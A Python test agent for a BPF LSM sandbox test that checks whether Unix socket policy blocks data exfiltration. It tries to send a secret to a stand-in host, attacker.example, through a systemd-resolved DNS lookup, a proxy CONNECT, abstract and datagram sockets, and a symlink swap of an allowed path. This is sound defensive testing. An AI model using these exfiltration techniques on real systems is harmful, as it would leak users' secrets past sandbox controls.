#!/usr/bin/env python3
"""Agent for tests/tests/unix_lsm.rs (BPF LSM unix hooks, in the VM).

argv[1]: JSON {"dir", "resolver", "proxy", "allowed", "abstract_bad",
"abstract_ok", "dgram_bad", "dgram_ok", "secret"}. Reports one JSON line per
attempt: {"name", "ok", "errno", "reply"}.
"""
import errno
import json
import os
import socket
import sys
import time

CFG = json.loads(sys.argv[1])
D = CFG["dir"]


def report(name, ok, err=None, reply=None):
    print(json.dumps({"name": name, "ok": ok,
                      "errno": errno.errorcode.get(err) if err else None,
                      "reply": reply}), flush=True)


def stream(name, addr, payload):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect(addr)
        s.sendall(payload)
        reply = b""
        try:
            reply = s.recv(4096)
        except OSError:
            pass
        report(name, True, reply=reply.decode("utf-8", "replace"))
    except OSError as e:
        report(name, False, e.errno)
    finally:
        s.close()


def dgram_sendto(name, addr, payload):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    try:
        s.sendto(payload, addr)
        report(name, True)
    except OSError as e:
        report(name, False, e.errno)
    finally:
        s.close()


def own_helper(addr):
    """A helper of the agent's own (same identity): a forked echo server."""
    lst = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    lst.bind(addr)
    lst.listen(4)
    pid = os.fork()
    if pid == 0:
        c, _ = lst.accept()
        c.sendall(b"helper:" + c.recv(100))
        c.close()
        os._exit(0)
    lst.close()
    return pid


secret = CFG["secret"]
varlink = json.dumps({"method": "io.systemd.Resolve.ResolveHostname",
                      "parameters": {"name": secret + ".attacker.example"}}).encode() + b"\0"
stream("resolver_varlink", CFG["resolver"], varlink)
stream("proxy", CFG["proxy"], b"CONNECT attacker.example:443 " + secret.encode())
stream("abstract_bad", "\0" + CFG["abstract_bad"], b"abstract " + secret.encode())
dgram_sendto("dgram_sendto_bad", CFG["dgram_bad"], b"dgram " + secret.encode())
# The agent's own helpers, not listed anywhere: same identity.
pid = own_helper(os.path.join(D, "own-helper.sock"))
stream("own_helper_path", os.path.join(D, "own-helper.sock"), b"hi")
os.waitpid(pid, 0)
pid = own_helper("\0" + CFG["abstract_bad"] + "-own")
stream("own_helper_abstract", "\0" + CFG["abstract_bad"] + "-own", b"hi")
os.waitpid(pid, 0)
# What the policy allows, also through a symlink alias (matched by inode).
stream("allowed_path", CFG["allowed"], b"hello-allowed")
os.symlink(CFG["allowed"], os.path.join(D, "alias.sock"))
stream("allowed_via_symlink", os.path.join(D, "alias.sock"), b"hello-alias")
stream("abstract_ok", "\0" + CFG["abstract_ok"], b"hello-abstract")
dgram_sendto("dgram_sendto_ok", CFG["dgram_ok"], b"hello-dgram")
# The allowed path swapped for a symlink to the proxy: the string still
# matches, the socket does not.
os.rename(CFG["allowed"], os.path.join(D, "allowed-moved.sock"))
os.symlink(CFG["proxy"], CFG["allowed"])
stream("allowed_path_swapped_to_proxy", CFG["allowed"], b"swapped " + secret.encode())
